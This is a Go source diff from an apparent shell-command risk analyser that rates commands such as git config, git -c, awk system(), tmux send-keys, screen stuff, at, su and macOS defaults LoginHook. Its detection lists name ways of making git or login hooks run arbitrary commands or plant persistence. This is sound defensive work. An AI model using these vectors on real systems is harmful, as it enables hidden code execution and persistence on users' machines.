+		}
+		c.nestedText(text, what)
+	}
+	for i := 0; i < len(toks); i++ {
+		t := toks[i]
+		if t.str {
+			continue
+		}
+		switch t.s {
+		case "system":
+			if i+1 >= len(toks) || toks[i+1].s != "(" || toks[i+1].str {
+				continue
+			}
+			depth, j := 0, i+1
+			for ; j < len(toks); j++ {
+				if toks[j].str {
+					continue
+				}
+				if toks[j].s == "(" {
+					depth++
+				} else if toks[j].s == ")" {
+					depth--
+					if depth == 0 {
+						break
+					}
+				}
+			}
+			shellRuns = true
+			run(toks[i+2:min(j, len(toks))], c.name+" system()")
+		case "|", "|&":
+			if i+1 < len(toks) && toks[i+1].s == "getline" && !toks[i+1].str {
+				// "cmd" | getline: the command is what comes before.
+				k := i - 1
+				for k >= 0 && !awkBoundary(toks[k]) && !(toks[k].s == "(" && !toks[k].str) {
+					k--
+				}
+				run(toks[k+1:i], c.name+" getline")
+				continue
+			}
+			// print … | "cmd": cmd reads what print writes.
+			j := i + 1
+			for j < len(toks) && !awkBoundary(toks[j]) && !(toks[j].s == ")" && !toks[j].str) {
+				j++
+			}
+			cmd := toks[i+1 : j]
+			k := i - 1
+			for k >= 0 && !awkBoundary(toks[k]) && !(!toks[k].str && (toks[k].s == "print" || toks[k].s == "printf")) {
+				k--
+			}
+			run(cmd, c.name+" print |")
+			if text := awkText(cmd); len(cmd) > 0 && cmd[0].str {
+				if f := strings.Fields(text); len(f) > 0 && shells[commandName(f[0])] && len(f) == 1 {
+					// print … | "sh": what is printed runs as commands.
+					shellRuns = true
+					c.nestedText(awkText(toks[max(k+1, 0):i]), c.name+" print | sh")
+				}
+			}
+		case ">", ">>":
+			// print > "file"
+			k := i - 1
+			inPrint := false
+			for k >= 0 && !awkBoundary(toks[k]) {
+				if !toks[k].str && (toks[k].s == "print" || toks[k].s == "printf") {
+					inPrint = true
+				}
+				k--
+			}
+			if inPrint && i+1 < len(toks) {
+				if toks[i+1].str {
+					c.a.write(word{s: toks[i+1].s}, c.span, c.name+" writes to")
+				} else {
+					c.add(level.Caution, "awk-write", "%s program writes a file named at run time", c.name)
+				}
+			}
+		}
+	}
+	if shellRuns {
+		c.add(level.Dangerous, "awk-system", "%s program runs shell commands", c.name)
+	}
+}
+
+// nestedText analyses text as a shell script whose holeUnquoted markers
+// stand for computed text.
+func (c *call) nestedText(text, what string) {
+	if strings.TrimSpace(text) == "" {
+		return
+	}
+	sp := c.span
+	inner := shellRun(c.a.v, text, c.a.env, anchorOr(c.a.anchor, &sp), c.a.depth+1, c.a.sh)
+	c.adopt(inner)
+}
+
+// adopt takes over what a nested analysis found that matters to the whole
+// script: a secret read and data sent.
+func (c *call) adopt(inner *shellAn) {
+	if inner.secret != nil {
+		c.a.secretAt(c.span)
+	}
+	if inner.upload != nil {
+		c.a.uploadAt(c.span)
+	}
+}
+
+// gitConfigs are one command's -c settings.
+type gitConfigs map[string]word
+
+func splitGitConfig(w word) (string, word) {
+	k, v, ok := strings.Cut(w.s, "=")
+	if !ok {
+		return strings.ToLower(k), word{s: "true"}
+	}
+	return strings.ToLower(k), word{s: v, hole: w.hole, span: w.span}
+}
+
+// gitCommandKey reports a configuration key whose value is a command (or
+// names code) git runs: core.fsmonitor, core.pager, alias.x (with !) …
+func gitCommandKey(k string) bool {
+	switch k {
+	case "core.fsmonitor", "core.pager", "core.editor", "core.sshcommand", "core.askpass", "core.hookspath", "core.gitproxy",
+		"sequence.editor", "diff.external", "gpg.program", "credential.helper", "uploadpack.packobjectshook", "init.templatedir",
+		"include.path", "web.browser", "interactive.difffilter", "core.worktree", "core.alternaterefscommand":
+		return true
+	}
+	first, rest, _ := strings.Cut(k, ".")
+	last := rest
+	if i := strings.LastIndexByte(rest, '.'); i >= 0 {
+		last = rest[i+1:]
+	}
+	switch first {
+	case "alias", "pager":
+		return true
+	case "diff":
+		return last == "textconv" || last == "command"
+	case "merge":
+		return last == "driver"
+	case "filter":
+		return last == "clean" || last == "smudge" || last == "process"
+	case "gpg", "credential":
+		return last == "program" || last == "helper"
+	case "includeif":
+		return last == "path"
+	case "difftool", "mergetool", "browser", "man":
+		return last == "cmd" || last == "path"
+	case "remote":
+		return last == "uploadpack" || last == "receivepack" || last == "proxy"
+	}
+	return false
+}
+
+// gitHarmlessValue reports a command-valued setting set to a plain, known
+// program: core.editor "code --wait", credential.helper osxkeychain.
+func gitHarmlessValue(k string, v word) bool {
+	if v.hole || strings.ContainsAny(v.s, ";&|<>$`()\n\\!") {
+		return false
+	}
+	f := strings.Fields(v.s)
+	if len(f) == 0 {
+		return true
+	}
+	name := commandName(f[0])
+	switch {
+	case k == "core.editor" || k == "sequence.editor":
+		return inList(name, "vim", "vi", "nvim", "nano", "emacs", "emacsclient", "code", "code-insiders", "cursor", "subl",
+			"mate", "bbedit", "micro", "hx", "kak", "zed", "ed", "pico", "atom", "windsurf", "idea", "open")
+	case k == "core.pager" || strings.HasPrefix(k, "pager."):
+		return inList(name, "less", "more", "cat", "delta", "diff-so-fancy", "bat", "most", "true", "false", "diff-highlight")
+	case strings.HasPrefix(k, "credential.") || strings.HasPrefix(k, "credential"):
+		return inList(name, "osxkeychain", "store", "cache", "manager", "manager-core", "libsecret", "wincred", "gcloud.sh") && !strings.HasPrefix(f[0], "/")
+	case k == "core.fsmonitor":
+		return inList(strings.ToLower(v.s), "true", "false", "0", "1", "yes", "no")
+	case k == "gpg.program" || strings.HasPrefix(k, "gpg."):
+		return inList(name, "gpg", "gpg2", "ssh-keygen", "smimesign", "gpgsm")
+	case strings.HasPrefix(k, "alias."):
+		return !strings.HasPrefix(strings.TrimSpace(v.s), "!")
+	case k == "core.sshcommand":
+		return name == "ssh" && !strings.Contains(strings.ToLower(v.s), "command")
+	}
+	return false
+}
+
+// gitSetting rates a command-valued setting: once (git -c) or lasting
+// (git config): the command is analysed; lasting, it is persistence.
+func (c *call) gitSetting(k string, v word, lasting bool) {
+	if !gitCommandKey(k) {
+		return
+	}
+	harmless := gitHarmlessValue(k, v)
+	switch {
+	case lasting && harmless:
+		c.add(level.Caution, "git-config", "git config %s: changes which program git runs", k)
+	case lasting:
+		c.add(level.Destructive, "git-config-persistence", "git config %s %s: makes git run a command later (persistence)", k, display(v.s))
+	case !harmless:
+		c.add(level.Dangerous, "git-config-command", "git -c %s: makes git run %s", k, display(v.s))
+	}
+	if harmless {
+		return
+	}
+	cmd := v
+	cmd.s = strings.TrimPrefix(strings.TrimSpace(cmd.s), "!")
+	if cmd.hole {
+		c.add(level.Destructive, "git-config-computed", "git %s: runs a command computed at run time", k)
+		return
+	}
+	switch k {
+	case "core.hookspath", "init.templatedir", "include.path", "core.worktree":
+		return // a folder or file, not a command
+	}
+	if strings.HasPrefix(k, "includeif.") {
+		return
+	}
+	c.nestedText(cmd.s, "git "+k)
+}
+
+func gitCommand(c *call) {
+	c.gitRun(gitConfigs{}, 0)
+}
+
+func (c *call) gitRun(cfg gitConfigs, depth int) {
+	// Global options before the subcommand, some with a value: git -C dir clean.
+	for len(c.args) > 0 && strings.HasPrefix(c.args[0].s, "-") {
+		opt := c.args[0].s
+		c.args = c.args[1:]
+		switch {
+		case opt == "-c" && len(c.args) > 0:
+			k, v := splitGitConfig(c.args[0])
+			cfg[k] = v
+			c.gitSetting(k, v, false)
+			c.args = c.args[1:]
+		case strings.HasPrefix(opt, "-c") && len(opt) > 2:
+			k, v := splitGitConfig(word{s: opt[2:]})
+			cfg[k] = v
+			c.gitSetting(k, v, false)
+		case opt == "--config-env" && len(c.args) > 0 || strings.HasPrefix(opt, "--config-env="):
+			// --config-env=key=ENVVAR: the value comes from the environment.
+			kv := strings.TrimPrefix(opt, "--config-env=")
+			if opt == "--config-env" {
+				kv = c.args[0].s
+				c.args = c.args[1:]
+			}
+			k, _ := splitGitConfig(word{s: kv})
+			cfg[k] = word{s: holeMark, hole: true}
+			c.gitSetting(k, cfg[k], false)
+		case opt == "-C" || opt == "--git-dir" || opt == "--work-tree" || opt == "--namespace" || opt == "--exec-path" || opt == "--super-prefix":
+			if len(c.args) > 0 {
+				c.args = c.args[1:]
+			}
+		}
+		c.ops = nil // the operands change with the arguments
+	}
+	ops := c.operands()
+	s := sub(c.args)
+	rest := c.args
+	for i, w := range c.args {
+		if strings.EqualFold(w.s, s) {
+			rest = c.args[i+1:]
+			break
+		}
+	}
+	if v, ok := cfg["alias."+s]; ok && depth < 4 {
+		// git -c alias.x='!cmd' x, or an alias for another subcommand.
+		if !v.hole && !strings.HasPrefix(strings.TrimSpace(v.s), "!") {
+			var args []word
+			for _, f := range strings.Fields(v.s) {
+				args = append(args, word{s: f, span: v.span})
+			}
+			inner := &call{a: c.a, name: "git", args: append(args, rest...), span: c.span, pc: c.pc}
+			inner.gitRun(cfg, depth+1)
+			return
+		}
+		c.add(level.Dangerous, "git-alias", "git %s: runs the shell command of an alias", display(s))
+		return
+	}
+	switch s {
+	case "status", "log", "diff", "show", "rev-parse", "describe", "blame", "ls-files", "shortlog",
+		"version", "help", "ls-remote", "cat-file", "rev-list", "whatchanged", "":
+	case "grep":
+		for i, w := range rest {
+			switch {
+			case (w.s == "-O" || w.s == "--open-files-in-pager") && i+1 < len(rest):
+				c.nestedText(rest[i+1].s, "git grep -O")
+			case strings.HasPrefix(w.s, "-O") && len(w.s) > 2:
+				c.nestedText(w.s[2:], "git grep -O")
+			case strings.HasPrefix(w.s, "--open-files-in-pager="):
+				c.nestedText(w.s[len("--open-files-in-pager="):], "git grep -O")
+			}
+		}
+	case "remote":
+		if len(ops) > 1 && !inList(strings.ToLower(ops[1].s), "-v", "show", "get-url") {
+			c.add(level.Caution, "git", "git remote: changes repository settings")
+		}
+	case "config":
+		c.gitConfig(rest)
+	case "clean":
+		force := hasShort(rest, 'f') || hasLong(rest, "--force")
+		if v, ok := cfg["clean.requireforce"]; ok && inList(strings.ToLower(v.s), "false", "no", "off", "0") {
+			force = true
+		}
+		if hasShort(rest, 'n') || hasLong(rest, "--dry-run") {
+			force = false
+		}
+		if force {
+			c.add(level.Destructive, "git-clean", "git clean -f: permanently deletes untracked files")
+		} else {
+			c.add(level.Caution, "git", "git clean")
+		}
+	case "reset":
+		if hasLong(rest, "--hard", "--merge", "--keep") {
+			c.add(level.Destructive, "git-reset", "git reset --hard: discards uncommitted work irreversibly")
+		} else {
+			c.add(level.Caution, "git", "git reset: moves the branch")
+		}
+	case "checkout", "switch":
+		switch {
+		case hasLong(rest, "--force", "--discard-changes") || hasShort(rest, 'f'):
+			c.add(level.Destructive, "git-discard", "git %s --force: discards uncommitted changes irreversibly", s)
+		case s == "checkout" && (hasArg(rest, ".", "--", ":/", "*", ":/*") || hasLong(rest, "--pathspec-from-file")):
+			c.add(level.Destructive, "git-discard", "git checkout -- …: discards uncommitted changes irreversibly")
+		default:
+			c.add(level.Caution, "git", "git %s: changes the working tree", s)
+		}
+	case "restore":
+		staged := hasLong(rest, "--staged") || hasShort(rest, 'S')
+		worktree := hasLong(rest, "--worktree") || hasShort(rest, 'W')
+		switch {
+		case staged && !worktree:
+			c.add(level.Caution, "git", "git restore --staged: unstages changes")
+		case hasArg(rest, ".", ":/", "*", ":/*") || hasLong(rest, "--pathspec-from-file"):
+			c.add(level.Destructive, "git-discard", "git restore .: discards uncommitted changes irreversibly")
+		default:
+			c.add(level.Dangerous, "git-discard", "git restore: discards uncommitted changes")
+		}
+	case "read-tree":
+		switch {
+		case hasShort(rest, 'u') && hasLong(rest, "--reset"):
+			c.add(level.Destructive, "git-discard", "git read-tree -u --reset: overwrites the working tree, discarding uncommitted changes")
+		case hasShort(rest, 'u'):
+			c.add(level.Dangerous, "git-discard", "git read-tree -u: overwrites files in the working tree")
+		default:
+			c.add(level.Caution, "git", "git read-tree: changes the index")
+		}
+	case "push":
+		refspecForce := false
+		rops := operands(rest)
+		for i, w := range rops {
+			if i > 0 && (strings.HasPrefix(w.s, "+") || strings.HasPrefix(w.s, ":")) {
+				refspecForce = true
+			}
+		}
+		if refspecForce || hasShort(rest, 'f') || hasLong(rest, "--force", "--force-with-lease", "--force-if-includes", "--mirror", "--delete", "--prune") || hasShort(rest, 'd') {
+			c.add(level.Dangerous, "git-push-force", "git push --force/--delete (+ref, :ref): rewrites or deletes remote history")
+		} else {
+			c.add(level.Caution, "git", "git push: publishes commits")
+		}
+	case "branch":
+		if hasShort(rest, 'D') || hasLong(rest, "--delete") && hasLong(rest, "--force") {
+			c.add(level.Dangerous, "git-branch-delete", "git branch -D: deletes a branch with unmerged work")
+		}
+	case "stash":
+		switch sub(rest) {
+		case "list", "show":
+		case "drop", "clear":
+			c.add(level.Dangerous, "git-stash-drop", "git stash drop/clear: discards stashed work")
+		default:
+			c.add(level.Caution, "git", "git stash")
+		}
+	case "submodule":
+		c.add(level.Caution, "git", "git submodule: changes submodules")
+		for i, w := range rest {
+			if w.s == "foreach" {
+				cmd := rest[i+1:]
+				for len(cmd) > 0 && (cmd[0].s == "--recursive" || cmd[0].s == "-q" || cmd[0].s == "--quiet") {
+					cmd = cmd[1:]
+				}
+				c.gitShell(cmd, "git submodule foreach")
+				break
+			}
+		}
+	case "rebase":
+		c.add(level.Caution, "git", "git rebase: rewrites commits")
+		for i, w := range rest {
+			switch {
+			case (w.s == "-x" || w.s == "--exec") && i+1 < len(rest):
+				c.gitShell(rest[i+1:i+2], "git rebase --exec")
+			case strings.HasPrefix(w.s, "--exec="):
+				c.gitShell([]word{{s: w.s[len("--exec="):], hole: w.hole}}, "git rebase --exec")
+			}
+		}
+	case "bisect":
+		c.add(level.Caution, "git", "git bisect")
+		if len(rest) > 1 && rest[0].s == "run" {
+			c.a.call(rest[1:], c.span, pipeCtx{})
+		}
+	case "filter-branch", "filter-repo", "update-ref", "gc", "prune", "reflog":
+		if s == "reflog" && !hasArg(rest, "expire", "delete") {
+			return
+		}
+		c.add(level.Dangerous, "git-history", "git %s: rewrites or prunes history", s)
+		for i, w := range rest {
+			if strings.HasSuffix(w.s, "-filter") && strings.HasPrefix(w.s, "--") && i+1 < len(rest) {
+				c.gitShell(rest[i+1:i+2], "git filter-branch "+w.s)
+			}
+		}
+	case "difftool", "mergetool":
+		c.add(level.Caution, "git", "git %s: runs a diff or merge tool", s)
+		for i, w := range rest {
+			switch {
+			case (w.s == "-x" || w.s == "--extcmd") && i+1 < len(rest):
+				c.gitShell(rest[i+1:i+2], "git "+s+" --extcmd")
+			case strings.HasPrefix(w.s, "--extcmd="):
+				c.gitShell([]word{{s: w.s[len("--extcmd="):], hole: w.hole}}, "git "+s+" --extcmd")
+			}
+		}
+	case "clone", "fetch", "pull":
+		c.add(level.Caution, "git", "git %s: changes the repository", s)
+		if rops := operands(rest); s == "clone" && len(rops) > 1 {
+			c.a.write(rops[len(rops)-1], c.span, "git clone into")
+		}
+		for i, w := range rest {
+			switch {
+			case (w.s == "-u" || w.s == "--upload-pack") && i+1 < len(rest):
+				c.gitShell(rest[i+1:i+2], "git "+s+" --upload-pack")
+			case strings.HasPrefix(w.s, "--upload-pack="):
+				c.gitShell([]word{{s: w.s[len("--upload-pack="):], hole: w.hole}}, "git "+s+" --upload-pack")
+			case (w.s == "-c" || w.s == "--config") && i+1 < len(rest) && s == "clone":
+				k, v := splitGitConfig(rest[i+1])
+				c.gitSetting(k, v, true)
+			case strings.HasPrefix(w.s, "--config=") && s == "clone":
+				k, v := splitGitConfig(word{s: w.s[len("--config="):], hole: w.hole})
+				c.gitSetting(k, v, true)
+			}
+		}
+	default:
+		c.add(level.Caution, "git", "git %s: changes the repository", display(s))
+	}
+}
+
+// gitShell analyses a command git hands to the shell (submodule foreach,
+// rebase --exec): the words are joined and run by sh -c.
+func (c *call) gitShell(ws []word, what string) {
+	if len(ws) == 0 {
+		return
+	}
+	parts := make([]string, len(ws))
+	for i, w := range ws {
+		if w.hole {
+			c.add(level.Destructive, "computed-script", "%s of text computed at run time: cannot tell what runs", what)
+			return
+		}
+		parts[i] = w.s
+	}
+	c.nestedText(strings.Join(parts, " "), what)
+}
+
+// gitConfig rates git config: reading is safe; setting a key whose value
+// git runs as a command is persistence.
+func (c *call) gitConfig(rest []word) {
+	var names []word
+	read, write, unset := false, false, false
+	for i := 0; i < len(rest); i++ {
+		s := rest[i].s
+		switch {
+		case rest[i].hole:
+			names = append(names, rest[i])
+		case inList(s, "--get", "--get-all", "--get-regexp", "--get-urlmatch", "--get-color", "--get-colorbool", "-l", "--list"):
+			read = true
+		case inList(s, "--unset", "--unset-all", "--remove-section", "--rename-section"):
+			write, unset = true, true
+		case inList(s, "--add", "--replace-all"):
+			write = true
+		case s == "-e" || s == "--edit":
+			c.add(level.Caution, "git", "git config --edit: opens the configuration in an editor")
+			return
+		case inList(s, "-f", "--file", "--blob", "--type", "--default", "--comment", "--value", "--url"):
+			i++
+		case strings.HasPrefix(s, "-"):
+		default:
+			names = append(names, rest[i])
+		}
+	}
+	if len(names) > 0 && !names[0].hole {
+		switch strings.ToLower(names[0].s) {
+		case "get", "list":
+			read = true
+			names = names[1:]
+		case "set":
+			write = true
+			names = names[1:]
+		case "unset", "remove-section", "rename-section":
+			write, unset = true, true
+			names = names[1:]
+		case "edit":
+			c.add(level.Caution, "git", "git config edit: opens the configuration in an editor")
+			return
+		}
+	}
+	if read || !write && len(names) < 2 {
+		return
+	}
+	if unset || len(names) < 2 {
+		c.add(level.Caution, "git", "git config: removes a setting")
+		return
+	}
+	k := strings.ToLower(names[0].s)
+	if names[0].hole {
+		c.add(level.Dangerous, "git-config-computed", "git config sets a setting named at run time")
+		return
+	}
+	if gitCommandKey(k) {
+		c.gitSetting(k, names[1], true)
+		return
+	}
+	c.add(level.Caution, "git", "git config: changes repository settings")
+}
+
+func defaultsCommand(c *call) {
+	args := c.args
+	for len(args) > 0 && (args[0].s == "-currentHost" || args[0].s == "-host") {
+		if args[0].s == "-host" && len(args) > 1 {
+			args = args[1:]
+		}
+		args = args[1:]
+	}
+	s := sub(args)
+	switch s {
+	case "read", "read-type", "domains", "find", "export", "help", "":
+	case "write", "delete", "import", "rename":
+		ops := operands(args)
+		domain := ""
+		if len(ops) > 1 {
+			domain = strings.ToLower(ops[1].s)
+			if d := ops[1]; strings.HasPrefix(d.s, "/") || strings.HasPrefix(d.s, "~") || d.guess {
+				// A domain given as a path is that property list.
+				if !strings.HasSuffix(strings.ToLower(d.s), ".plist") {
+					d.s += ".plist"
+				}
+				c.a.write(d, c.span, "defaults "+s+" changes")
+			}
+		}
+		if d := ops[min(1, len(ops)-1)]; len(ops) > 1 && !d.hole && !strings.ContainsAny(d.s, "/~") {
+			// A domain is a property list in ~/Library/Preferences: some
+			// of them (login items) are persistence.
+			plist := word{s: "~/Library/Preferences/" + d.s + ".plist", span: d.span}
+			if z := c.a.zoneOf(plist); z.kind == zonePersistence {
+				c.a.write(plist, c.span, "defaults "+s+" changes")
+			}
+		}
+		if strings.Contains(domain, "loginwindow") && hasArg(args, "LoginHook", "LogoutHook") {
+			c.add(level.Destructive, "defaults-hook", "defaults write … LoginHook: runs a script at every login (persistence)")
+			return
+		}
+		if cosmeticDomains[domain] && s == "write" {
+			c.add(level.Caution, "defaults-write", "defaults write %s: changes how %s looks or behaves", domain, domain)
+			return
+		}
+		c.add(level.Dangerous, "defaults-write", "defaults %s: changes preferences", s)
+	default:
+		c.add(level.Dangerous, "defaults", "defaults %s: changes preferences", display(s))
+	}
+}
+
+// suCommand rates su: a shell as another user; -c runs a command there.
+func suCommand(c *call) {
+	c.add(level.Dangerous, "su", "su: runs commands as another user")
+	for i, w := range c.args {
+		switch {
+		case (w.s == "-c" || w.s == "--command") && i+1 < len(c.args):
+			c.nested(c.args[i+1:i+2], "su -c")
+			return
+		case strings.HasPrefix(w.s, "--command="):
+			c.nested([]word{{s: w.s[len("--command="):], hole: w.hole}}, "su -c")
+			return
+		}
+	}
+	c.fromStdinAs(true)
+}
+
+// atCommand rates at and batch: they run commands read from stdin (or
+// -f file) later.
+func atCommand(c *call) {
+	if hasShort(c.args, 'l') || hasShort(c.args, 'r') || hasShort(c.args, 'd') || c.name == "at" && hasShort(c.args, 'c') {
+		c.add(level.Caution, "at", "%s: lists or removes scheduled jobs", c.name)
+		return
+	}
+	c.add(level.Dangerous, "at", "%s: schedules commands to run later", c.name)
+	for i, w := range c.args {
+		if w.s == "-f" && i+1 < len(c.args) {
+			f := c.args[i+1]
+			switch {
+			case f.hole:
+				c.add(level.Destructive, "at-computed", "%s -f: runs a file named at run time", c.name)
+			case isStdinPath(f.s):
+				c.fromStdinAs(true)
+			case c.a.runFile(c, f.s):
+			default:
+				c.add(level.Dangerous, "at-file", "%s -f %s: runs commands from a file that is not analysed", c.name, display(f.s))
+			}
+			return
+		}
+	}
+	c.fromStdinAs(true)
+}
+
+// typed rates text typed into a terminal session (tmux send-keys, screen
+// -X stuff): it runs as commands there.
+func (c *call) typed(ws []word, what string) {
+	c.add(level.Dangerous, "type-into-terminal", "%s types into a terminal session: the text runs as commands", what)
+	var b strings.Builder
+	for _, w := range ws {
+		if w.hole {
+			c.add(level.Destructive, "computed-script", "%s types text computed at run time: cannot tell what runs", what)
+			return
+		}
+		b.WriteString(w.s)
+	}
+	c.nestedText(b.String(), what)
+}
+
+func screenCommand(c *call) {
+	c.add(level.Caution, "screen", "screen: controls terminal sessions")
+	args := c.args
+	attach, detached, mflag := false, false, false
+	for i := 0; i < len(args); i++ {
+		w := args[i]
+		s := w.s
+		if w.hole || !strings.HasPrefix(s, "-") {
+			if attach || detached && !mflag {
+				return // a session name
+			}
+			c.a.call(args[i:], c.span, pipeCtx{})
+			return
+		}
+		switch {
+		case s == "-X" || s == "-Q":
+			cmd := args[i+1:]
+			if len(cmd) == 0 {
+				return
+			}
+			switch strings.ToLower(cmd[0].s) {
+			case "stuff":
+				var keys []word
+				for _, k := range cmd[1:] {
+					if !k.hole {
+						k.s = strings.NewReplacer("^M", "\n", "^J", "\n", `\n`, "\n", `\r`, "\n", `\015`, "\n", `\012`, "\n").Replace(k.s)
+					}
+					keys = append(keys, k)
+				}
+				c.typed(keys, "screen -X stuff")
+			case "exec", "screen":
+				if len(cmd) > 1 {
+					c.a.call(cmd[1:], c.span, pipeCtx{})
+				}
+			case "source":
+				c.add(level.Dangerous, "screen-source", "screen -X source: runs screen commands from a file")
+			}
+			return
+		case inList(s, "-ls", "-list", "-wipe", "-v", "-h", "-help", "--help", "-version"):
+			return
+		case strings.HasPrefix(s, "-Logfile"):
+			if s == "-Logfile" {
+				i++
+			}
+			continue
+		}
+		letters := s[1:]
+		for j := 0; j < len(letters); j++ {
+			l := letters[j]
+			switch {
+			case strings.IndexByte("rRxD", l) >= 0:
+				attach = true
+			case l == 'd':
+				detached = true
+			case l == 'm':
+				mflag = true
+			case strings.IndexByte("ScehpTtsL", l) >= 0 && l != 'L':
+				if j == len(letters)-1 {
+					i++
+				}
+				j = len(letters)
+			}
+		}
+	}
+}
+
+// tmuxSubs are the tmux commands that run a shell command (kind 1), type
+// keys (2), test a shell command (3) or run tmux commands from a file
+// (4), with their valued options.
+var tmuxSubs = map[string]struct {
+	valued string
+	kind   int
+}{
+	"new-session": {"cefFnstxy", 1}, "new": {"cefFnstxy", 1}, "new-window": {"cenFt", 1}, "neww": {"cenFt", 1},
+	"split-window": {"celpFt", 1}, "splitw": {"celpFt", 1}, "respawn-pane": {"cet", 1}, "respawnp": {"cet", 1},
+	"respawn-window": {"cet", 1}, "respawnw": {"cet", 1}, "run-shell": {"cdt", 1}, "run": {"cdt", 1},
+	"display-popup": {"bcdehsStTwxy", 1}, "popup": {"bcdehsStTwxy", 1}, "pipe-pane": {"t", 1}, "pipep": {"t", 1},
+	"send-keys": {"cNt", 2}, "send": {"cNt", 2}, "if-shell": {"t", 3}, "if": {"t", 3},
+	"source-file": {"t", 4}, "source": {"t", 4},
+}
+
+func tmuxCommand(c *call) {
+	c.add(level.Caution, "tmux", "tmux: controls terminal sessions")
+	args := c.args
+	i := 0
+	for i < len(args) && !args[i].hole && strings.HasPrefix(args[i].s, "-") && len(args[i].s) > 1 {
+		s := args[i].s
+		i++
+		if s == "--" {
+			break
+		}
+		letters := s[1:]
+		for j := 0; j < len(letters); j++ {
+			l := letters[j]
+			if strings.IndexByte("LSfcT", l) < 0 {
+				continue
+			}
+			v := word{s: letters[j+1:]}
+			if v.s == "" && i < len(args) {
+				v = args[i]
+				i++
+			}
+			if l == 'c' {
+				c.nested([]word{v}, "tmux -c")
+			}
+			break
+		}
+	}
+	for i < len(args) {
+		j := i
+		for j < len(args) && args[j].s != ";" {
+			j++
+		}
+		c.tmuxOne(args[i:j])
+		i = j + 1
+	}
+}
+
+func (c *call) tmuxOne(ws []word) {
+	if len(ws) == 0 {
+		return
+	}
+	sub := strings.ToLower(ws[0].s)
+	spec, ok := tmuxSubs[sub]
+	if !ok {
+		return
+	}
+	rest := ws[1:]
+	literal := false
+	for len(rest) > 0 && !rest[0].hole && strings.HasPrefix(rest[0].s, "-") && len(rest[0].s) > 1 {
+		s := rest[0].s
+		rest = rest[1:]
+		if s == "--" {
+			break
+		}
+		letters := s[1:]
+		for j := 0; j < len(letters); j++ {
+			if letters[j] == 'l' && spec.kind == 2 {
+				literal = true
+			}
+			if strings.IndexByte(spec.valued, letters[j]) >= 0 {
+				if j == len(letters)-1 && len(rest) > 0 {
+					rest = rest[1:]
+				}
+				break
+			}
+		}
+	}
+	what := "tmux " + sub
+	switch spec.kind {
+	case 1:
+		if len(rest) == 1 {
+			c.nested(rest, what)
+		} else if len(rest) > 1 {
+			c.a.call(rest, c.span, pipeCtx{})
+		}
+	case 2:
+		keys := make([]word, 0, len(rest))
+		for _, k := range rest {
+			if !literal && !k.hole {
+				switch k.s {
+				case "Enter", "C-m", "KPEnter", "C-j", "C-c", "C-d", "C-z", "C-u", "Escape", "C-M", "C-J", "C-C", "C-D":
+					k.s = "\n"
+				case "Space":
+					k.s = " "
+				case "Tab", "C-i":
+					k.s = "\t"
+				case "Up", "Down", "Left", "Right", "Home", "End", "BSpace", "PageUp", "PageDown", "PPage", "NPage", "C-l":
+					k.s = ""
+				}
+			}
+			keys = append(keys, k)
+		}
+		c.typed(keys, what)
+	case 3:
+		if len(rest) > 0 {
+			c.nested(rest[:1], what)
+		}
+		if len(rest) > 1 {
+			c.add(level.Dangerous, "tmux-commands", "%s: runs tmux commands that are not analysed", what)
+		}
+	case 4:
+		c.add(level.Dangerous, "tmux-source", "%s: runs tmux commands from a file that is not analysed", what)
+	}
+}
+
+// xcodeTools are the developer tools xcrun finds in Xcode.
+var xcodeTools = map[string]bool{
+	"clang": true, "clang++": true, "swiftc": true, "altool": true, "notarytool": true, "stapler": true, "actool": true,
+	"ibtool": true, "momc": true, "agvtool": true, "xctrace": true, "instruments": true, "lldb": true, "ld": true, "ar": true,
+	"nm": true, "otool": true, "strip": true, "dsymutil": true, "libtool": true, "size": true, "devicectl": true,
+	"xcresulttool": true, "docc": true, "metal": true, "metallib": true, "swift-demangle": true, "llvm-cov": true,
+	"llvm-profdata": true, "dwarfdump": true, "sourcekit-lsp": true, "simctl": true, "xcodebuild": true, "pngcrush": true,
+	"ranlib": true, "lipo": true, "codesign_allocate": true, "swift-format": true, "coremlc": true, "texturetool": true,
+}
+
+// xcrunCommand rates xcrun TOOL args as TOOL args (simctl by its own
+// rules); xcrun -f only finds a tool.
+func xcrunCommand(c *call) {
+	args := c.args
+	for len(args) > 0 && strings.HasPrefix(args[0].s, "-") && !args[0].hole {
+		s := args[0].s
+		args = args[1:]
+		switch {
+		case inList(s, "-f", "--find", "-h", "--help", "--version", "--kill-cache") || strings.HasPrefix(s, "--show-"):
+			return
+		case inList(s, "-sdk", "--sdk", "-toolchain", "--toolchain"):
+			if len(args) > 0 {
+				args = args[1:]
+			}
+		}
+	}
+	if len(args) == 0 {
+		return
+	}
+	tool := commandName(args[0].s)
+	if tool == "simctl" {
+		if len(args) > 1 {
+			switch strings.ToLower(args[1].s) {
+			case "list", "help", "getenv", "listapps", "appinfo", "get_app_container":
+				return
+			case "erase", "delete", "uninstall":
+				c.add(level.Dangerous, "simctl", "simctl %s: wipes simulator data", args[1].s)
+				return
+			}
+		}
+		c.add(level.Caution, "xcrun", "xcrun simctl: controls simulators")
+		return
+	}
+	_, known := shellCommands[tool]
+	if !known && xcodeTools[tool] && !args[0].hole {
+		c.add(level.Caution, "xcrun", "xcrun %s: runs a developer tool", display(tool))
+		return
+	}
+	c.a.call(args, c.span, c.pc)
+}
+
+// manCommand rates man: -P (pager) and -H (browser) name commands it runs.
+func manCommand(c *call) {
+	for i, w := range c.args {
+		s := w.s
+		var v word
+		switch {
+		case (s == "-P" || s == "--pager") && i+1 < len(c.args):
+			v = c.args[i+1]
+		case strings.HasPrefix(s, "--pager=") || strings.HasPrefix(s, "--html="):
+			_, val, _ := strings.Cut(s, "=")
+			v = word{s: val, hole: w.hole}
+		case (strings.HasPrefix(s, "-P") || strings.HasPrefix(s, "-H")) && len(s) > 2:
+			v = word{s: s[2:], hole: w.hole}
+		default:
+			continue
+		}
+		c.add(level.Caution, "man-pager", "man: runs %s to show the page", display(v.s))
+		c.nested([]word{v}, "man pager")
+	}
+}
+
+// fdCommand rates fd: -x/--exec and -X/--exec-batch run a command on every
+// match, like find -exec.
+func fdCommand(c *call) {
+	for i, w := range c.args {
+		if !inList(w.s, "-x", "--exec", "-X", "--exec-batch") {
+			continue
+		}
+		var inner []word
+		placeholder := false
+		for _, x := range c.args[i+1:] {
+			if x.s == ";" {
+				break
+			}
+			if strings.Contains(x.s, "{") && strings.Contains(x.s, "}") {
+				x = word{s: holeMark, hole: true, glob: true, span: x.span}
+				placeholder = true
+			}
+			inner = append(inner, x)
+		}
+		if !placeholder {
+			inner = append(inner, word{s: holeMark, hole: true, glob: true})
+		}
+		c.a.call(inner, c.span, pipeCtx{})
